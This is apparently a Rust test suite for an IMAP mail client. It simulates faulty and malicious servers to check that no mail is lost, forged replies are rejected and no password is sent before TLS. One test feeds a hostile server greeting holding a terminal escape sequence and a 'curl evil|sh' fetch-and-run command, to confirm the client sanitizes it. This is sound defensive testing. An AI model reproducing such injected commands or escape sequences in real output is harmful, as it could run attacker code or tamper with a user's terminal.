//! Servers that fail, lie, pour and wait, and people in between.

use std::collections::BTreeMap;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use super::support::fake::{self, Act, FakeImap, Mailbox};
use super::*;

/// What a mailbox holds and what the store got, compared as sets of (UID, bytes).
fn assert_complete(fake: &FakeImap, store: &Store) {
    let truth: BTreeMap<u32, Vec<u8>> = fake.mailbox.lock().unwrap().messages.clone();
    let mut got: BTreeMap<u32, Vec<u8>> = BTreeMap::new();
    for mail in &store.mail {
        let uid = mail.sighting.key.parse().unwrap();
        assert!(got.insert(uid, mail.raw.clone()).is_none(), "UID {uid} twice");
    }
    assert!(got == truth, "{} of {} messages", got.len(), truth.len());
}

#[test]
fn a_server_that_fails_one_command_in_ten_loses_nothing() {
    let mut state = 12345u32;
    let fake = FakeImap::start(Mailbox::of(2_000, report), move |command| {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        let dice = state >> 16;
        if command.starts_with("LOGIN") || dice % 10 != 0 {
            return Act::Serve;
        }
        match dice / 10 % 5 {
            0 => Act::Close,
            1 => Act::Say("{tag} NO something failed\r\n".into()),
            2 => Act::Cut(dice as usize % 5_000),
            3 => Act::SayAndClose(b"* BYE going down\r\n".to_vec()),
            _ => Act::Say("* 1 FETCH (UID 1 BODY[] {5}\r\nAAAAAAAAAAAAAA\r\n{tag} OK done\r\n".into()),
        }
    });
    let mut config = plain(fake.port);
    config.limits.batch_count = 20;
    let mut store = Store::default();
    let mut polls = 0;
    loop {
        polls += 1;
        assert!(polls < 20, "it never ends");
        match Imap::connect(config.clone()).and_then(|mut imap| poll(&mut imap, &mut store)) {
            Ok(summary) if summary.skipped.is_empty() => break,
            _ => {}
        }
    }
    println!("{polls} polls, {} commands, {} skipped on the way", fake.commands().len(), store.skipped.len());
    assert_complete(&fake, &store);
}

#[test]
fn a_connection_cut_at_any_byte_loses_nothing() {
    for cut in 0..400 {
        let mut cuts = 0;
        let fake = FakeImap::start(
            Mailbox::of(3, |n| format!("A: {n}\r\n\r\n* 1 FETCH (UID 3)\r\n").into()),
            move |command| {
                cuts += usize::from(command.contains("BODY.PEEK"));
                if command.contains("BODY.PEEK") && cuts == 1 { Act::Cut(cut) } else { Act::Serve }
            },
        );
        let mut store = Store::default();
        poll_fresh(&plain(fake.port), &mut store).unwrap_or_else(|e| panic!("cut at {cut}: {e}"));
        assert_complete(&fake, &store);
    }
}

#[test]
fn one_message_that_cannot_be_had_is_reported_and_tried_again() {
    let bad = Arc::new(AtomicBool::new(true));
    let is_bad = Arc::clone(&bad);
    let fake = FakeImap::start(Mailbox::of(50, report), move |command| {
        let asks = |c: &str| {
            c.split_once("BODY").is_some_and(|(set, _)| {
                let set = set.trim_start_matches("UID FETCH ").split(' ').next().unwrap_or("");
                set.split(',').any(|r| {
                    let (a, b) = r.split_once(':').unwrap_or((r, r));
                    (a.parse::<u32>().unwrap()..=b.parse::<u32>().unwrap()).contains(&17)
                })
            })
        };
        if is_bad.load(Ordering::Relaxed) && asks(command) {
            Act::Say("* 17 FETCH (UID 17 BODY[] {3}\r\nabcdef)\r\n{tag} OK done\r\n".into())
        } else {
            Act::Serve
        }
    });
    let mut store = Store::default();
    let summary = poll_fresh(&plain(fake.port), &mut store).unwrap();
    assert_eq!((summary.seen, summary.skipped.len()), (49, 1), "{summary:?}");
    assert_eq!(summary.skipped[0].sighting.key, "17");
    let position = *store.positions.values().next().unwrap();
    assert_eq!(position.next_uid, 17, "the position does not pass it");
    bad.store(false, Ordering::Relaxed);
    let summary = poll_fresh(&plain(fake.port), &mut store).unwrap();
    assert_eq!(summary.seen, 1, "only that one is fetched again");
    assert_complete(&fake, &store);
    let commands = fake.commands().len();
    let mut imap = Imap::connect(plain(fake.port)).unwrap();
    poll(&mut imap, &mut store).unwrap();
    assert_eq!(fake.commands().len() - commands, 2, "LOGIN and EXAMINE");
}

#[test]
fn a_hidden_message_is_missed_by_one_poll_only() {
    let mut mailbox = Mailbox::of(6, report);
    mailbox.hidden = vec![2];
    let fake = FakeImap::start(mailbox, |_| Act::Serve);
    let mut store = Store::default();
    let summary = poll_fresh(&plain(fake.port), &mut store).unwrap();
    assert_eq!((summary.seen, summary.warnings.len()), (5, 1), "{summary:?}");
    fake.mailbox.lock().unwrap().hidden.clear();
    assert_eq!(poll_fresh(&plain(fake.port), &mut store).unwrap().seen, 1);
    assert_complete(&fake, &store);
    // The same where a new message comes together with the hidden one.
    let mut mailbox = Mailbox::of(6, report);
    mailbox.hidden = vec![6];
    let fake = FakeImap::start(mailbox, |_| Act::Serve);
    let mut store = Store::default();
    poll_fresh(&plain(fake.port), &mut store).unwrap();
    {
        let mut mailbox = fake.mailbox.lock().unwrap();
        mailbox.hidden.clear();
        mailbox.messages.insert(7, report(7));
        mailbox.uidnext = 8;
    }
    poll_fresh(&plain(fake.port), &mut store).unwrap();
    assert_complete(&fake, &store);
}

#[test]
fn odd_uids_lose_nothing() {
    // UIDNEXT goes backwards: numbers may have been given out anew, so everything is read again.
    let fake = FakeImap::start(Mailbox::of(4, report), |_| Act::Serve);
    let mut store = Store::default();
    poll_fresh(&plain(fake.port), &mut store).unwrap();
    *fake.mailbox.lock().unwrap() = Mailbox::of(2, |n| report(n + 100));
    assert_eq!(poll_fresh(&plain(fake.port), &mut store).unwrap().seen, 2);
    assert_eq!(store.mail[4].raw, report(101));
    // UIDNEXT below what is there.
    let fake = FakeImap::start(Mailbox { uidnext: 2, ..Mailbox::of(3, report) }, |_| Act::Serve);
    let mut store = Store::default();
    poll_fresh(&plain(fake.port), &mut store).unwrap();
    assert_complete(&fake, &store);
    // No UIDVALIDITY at all: nothing can be left out.
    let fake = FakeImap::start(Mailbox { uidvalidity: 0, ..Mailbox::of(2, report) }, |_| Act::Serve);
    let mut store = Store::default();
    assert_eq!(poll_fresh(&plain(fake.port), &mut store).unwrap().seen, 2);
    assert_eq!(poll_fresh(&plain(fake.port), &mut store).unwrap().seen, 2);
}

#[test]
fn a_message_moved_away_meanwhile_is_no_failure() {
    let mut mailbox = Mailbox::of(5, report);
    mailbox.messages.remove(&3);
    let mut searches = 0;
    let fake = FakeImap::start(mailbox, move |command| {
        searches += usize::from(command.starts_with("UID SEARCH"));
        if command.starts_with("UID SEARCH") && searches == 1 {
            Act::Say("* SEARCH 1 2 3 4 5\r\n{tag} OK done\r\n".into())
        } else {
            Act::Serve
        }
    });
    let mut store = Store::default();
    let summary = poll_fresh(&plain(fake.port), &mut store).unwrap();
    assert_eq!((summary.seen, summary.vanished, summary.skipped.len()), (4, 1, 0), "{summary:?}");
    assert_complete(&fake, &store);
    assert_eq!(store.positions.values().next().unwrap().next_uid, 6);
}

#[test]
fn answers_for_what_was_not_asked_are_not_stored() {
    for lie in [
        "* 1 FETCH (UID 99 BODY[] {4}\r\nlie!)\r\n{tag} OK done\r\n",
        "* 1 FETCH (UID 1 BODY[] {4}\r\nlie!)\r\n* 1 FETCH (UID 1 BODY[] {4}\r\nlie!)\r\n{tag} OK done\r\n",
        "* 1 FETCH (BODY[] {4}\r\nlie!)\r\n{tag} OK done\r\n",
        "* 1 FETCH (UID 1 BODY[] {18446744073709551616}\r\nlie!)\r\n{tag} OK done\r\n",
        "* 1 FETCH (UID 1 BODY[] {2}\r\nlie!)\r\n{tag} OK done\r\n",
        "* METADATA \"\" (/odd/entry \"x\")\r\n{tag} OK done\r\n",
        "zzz999 OK not your tag\r\n",
        "{tag} OK done\r\n",
    ] {
        let fake = FakeImap::start(Mailbox::of(1, report), move |command| {
            // As long as what was announced, so that its length alone does not give it away.
            let long = "lie!".repeat(100);
            let lie = lie.replace("{4}", &format!("{{{}}}", long.len())).replace("lie!", &long);
            if command.contains("BODY") { Act::Say(lie) } else { Act::Serve }
        });
        let mut store = Store::default();
        let outcome = poll_fresh(&plain(fake.port), &mut store);
        assert!(store.mail.is_empty(), "{lie}: stored {:?}", store.mail);
        assert!(matches!(&outcome, Ok(s) if s.skipped.len() == 1) || outcome.is_err(), "{lie}: {outcome:?}");
        assert!(store.positions.values().all(|p| p.next_uid <= 1), "{lie}: {:?}", store.positions);
    }
}

/// A list of flags weighs many times its bytes once it is parsed.
#[test]
fn a_response_without_end_is_not_parsed() {
    let fake = FakeImap::start(Mailbox::of(1, report), |command| {
        if !command.contains("BODY") {
            return Act::Serve;
        }
        Act::Say(format!("* 1 FETCH (UID 1 FLAGS ({}))\r\n{{tag}} OK done\r\n", "a ".repeat(50_000)))
    });
    let mut store = Store::default();
    let summary = poll_fresh(&plain(fake.port), &mut store).unwrap();
    assert!(summary.skipped[0].reason.contains("more than was asked for"), "{summary:?}");
}

#[test]
fn mail_is_not_cut_short_unnoticed() {
    // A well-formed literal that holds half of the mail; and pieces smaller than asked for.
    let half = |seq: u32| {
        let raw = String::from_utf8(report(seq)).unwrap();
        format!("* {seq} FETCH (UID {seq} BODY[] {{40}}\r\n{})\r\n", &raw[..40])
    };
    let fake = FakeImap::start(Mailbox::of(3, report), move |command| {
        if command.contains("BODY.PEEK[])") {
            Act::Say(half(1) + &half(2) + &half(3) + "{tag} OK done\r\n")
        } else {
            Act::Serve
        }
    });
    let mut store = Store::default();
    poll_fresh(&plain(fake.port), &mut store).unwrap();
    assert_complete(&fake, &store);
    let fake = FakeImap::start(Mailbox::of(1, |_| vec![b'x'; 3 << 20]), |command| match command.split_once('<') {
        Some((_, range)) => {
            let from: usize = range.split('.').next().unwrap().parse().unwrap();
            let length = (100 << 10).min((3 << 20) - from);
            Act::Say(format!(
                "* 1 FETCH (UID 1 BODY[]<{from}> {{{length}}}\r\n{})\r\n{{tag}} OK done\r\n",
                "x".repeat(length)
            ))
        }
        None => Act::Serve,
    });
    let mut store = Store::default();
    poll_fresh(&plain(fake.port), &mut store).unwrap();
    assert_complete(&fake, &store);
}

#[test]
fn a_server_that_pours_drips_or_is_silent_is_left() {
    let quick = |port| {
        let mut config = plain(port);
        let ms = Duration::from_millis;
        config.timeouts = Timeouts { connect: ms(500), idle: ms(400), command: ms(1500), whole: ms(4000) };
        config
    };
    let pour = |line: &'static str| {
        fake::serve(move |_, mut conn| {
            conn.send("* OK [CAPABILITY IMAP4rev1] hi\r\n");
            conn.line();
            while conn.send(line) {}
        })
    };
    let drip = fake::serve(|_, mut conn| {
        conn.send("* OK [CAPABILITY IMAP4rev1] hi\r\n");
        while conn.send("*") {
            std::thread::sleep(Duration::from_millis(100));
        }
    });
    let silent = fake::serve(|_, mut conn| {
        conn.rest();
    });
    let endless_greeting = fake::serve(|_, mut conn| while conn.send([b'A'; 4096]) {});
    for (name, port) in [
        ("pours noise", pour("* OK noise\r\n")),
        ("pours one line", pour("AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA")),
        ("drip", drip),
        ("silent", silent),
        ("greeting", endless_greeting),
    ] {
        let begin = Instant::now();
        let error = error_of(Imap::connect(quick(port)));
        assert!(!name.starts_with("pours") || error.contains("more than was asked for"), "{name}: {error}");
        assert!(begin.elapsed() < Duration::from_secs(9), "{name} took {:?}", begin.elapsed());
    }
}

/// Every way to log in, on a server that writes down what it hears.
#[test]
fn each_login_says_what_it_should() {
    let base64 = |text: &str| data_encoding::BASE64.encode(text.as_bytes());
    let password = || Auth::Password(Password::new(dovecot::PASSWORD.into()));
    let token = || Auth::OAuth2(Password::new("t0ken".into()));
    let user = dovecot::USER;
    let quoted = format!(r#"a1 LOGIN "{user}" "pa ss\"wo\\rd ümlaut""#);
    let plain_line = base64(&format!("\0{user}\0{}", dovecot::PASSWORD));
    let oauth_line = base64(&format!("user={user}\x01auth=Bearer t0ken\x01\x01"));
    for (capabilities, auth, answers, expected) in [
        ("IMAP4rev1", password(), &["a1 OK in\r\n"][..], vec![quoted]),
        ("AUTH=PLAIN", password(), &["+\r\n", "a1 OK in\r\n"], vec!["a1 AUTHENTICATE PLAIN".into(), plain_line]),
        (
            "AUTH=XOAUTH2",
            token(),
            &["+ \r\n", "a1 OK in\r\n"],
            vec!["a1 AUTHENTICATE XOAUTH2".into(), oauth_line.clone()],
        ),
        (
            "AUTH=XOAUTH2",
            token(),
            &["+ \r\n", "+ eyJzdGF0dXMiOiI0MDAifQ==\r\n", "a1 NO no\r\n"],
            vec!["a1 AUTHENTICATE XOAUTH2".into(), oauth_line, String::new()],
        ),
        ("LOGINDISABLED", password(), &[], vec![]),
    ] {
        let heard = Arc::new(Mutex::new(Vec::new()));
        let log = Arc::clone(&heard);
        let port = fake::serve(move |_, mut conn| {
            conn.send(format!("* OK [CAPABILITY {capabilities}] hi\r\n"));
            for answer in answers {
                let Some(line) = conn.line() else { return };
                log.lock().unwrap().push(line);
                conn.send(answer);
            }
            conn.rest();
        });
        let outcome = Imap::connect(ImapConfig { auth, ..plain(port) });
        assert_eq!(*heard.lock().unwrap(), expected, "{capabilities}");
        let is_welcome = answers.last().is_some_and(|a| a.contains("OK"));
        assert_eq!(outcome.is_ok(), is_welcome, "{capabilities}: {:?}", outcome.err());
    }
    let several = Auth::Password(Password::new("secret\nnotes: none".into()));
    let error = error_of(Imap::connect(ImapConfig {
        auth: several,
        ..plain(FakeImap::start(Mailbox::default(), |_| Act::Serve).port)
    }));
    assert!(error.contains("several lines") && !error.contains("secret"), "{error}");
}

#[test]
fn a_meddler_before_tls_gets_no_password() {
    for (name, greeting, answer) in [
        ("preauth", "* PREAUTH [CAPABILITY IMAP4rev1] hi\r\n", ""),
        ("stripped", "* OK hi\r\n", "s1 BAD what\r\n"),
        ("injected", "* OK hi\r\n", "s1 OK go\r\n* CAPABILITY IMAP4rev1 AUTH=PLAIN\r\ns2 OK\r\n"),
        ("bye", "* BYE \x1b]52;c;QQ==\x07 curl evil|sh\r\n", ""),
    ] {
        let heard = Arc::new(Mutex::new(Vec::new()));
        let listener = Arc::clone(&heard);
        let port = fake::serve(move |_, mut conn| {
            conn.send(greeting);
            if let Some(line) = conn.line() {
                listener.lock().unwrap().extend(line.bytes());
                conn.send(answer);
                let rest = conn.rest();
                listener.lock().unwrap().extend(rest);
            }
        });
        let mut config = account("localhost", port, Tls::StartTls, None);
        config.timeouts = Timeouts { idle: Duration::from_millis(500), whole: Duration::from_secs(5), ..quick() };
        let error = error_of(Imap::connect(config));
        assert!(!error.contains('\x1b') && !error.contains('\x07'), "{name}: {error:?}");
        assert_eq!(error.contains("PREAUTH"), name == "preauth", "{error}");
        let heard = String::from_utf8_lossy(&heard.lock().unwrap()).into_owned();
        assert!(!heard.to_ascii_uppercase().contains("LOGIN") && !heard.contains("AUTHENTICATE"), "{name}: {heard}");
    }
}
